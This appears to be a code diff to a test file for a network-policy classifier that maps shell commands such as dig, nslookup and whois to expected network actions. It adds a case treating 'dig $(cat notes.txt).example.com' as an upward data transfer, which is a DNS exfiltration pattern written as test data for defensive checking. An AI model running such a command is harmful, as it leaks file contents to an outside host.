@@ -13,7 +13,11 @@ describe("[policy.network.reach]", () => {
       "dig @ns1.example example.com MX",
       ["net.look_up(domain: ns1.example)", "net.look_up(domain: example.com)"],
     ],
-    ["dig $(cat notes.txt).example.com", ["net.look_up(domain: ?)"]],
+    ["dig $NAME.example.com", ["net.look_up(domain: ?)"]],
+    [
+      "dig $(cat notes.txt).example.com",
+      ["net.look_up(domain: ?)", "net.transfer(domain: ?, direction: up)"],
+    ],
     ["nslookup -type=MX example.com", ["net.look_up(domain: example.com)"]],
     ["host example.com", ["net.look_up(domain: example.com)"]],
     ["whois example.com", ["net.look_up(domain: example.com)"]],
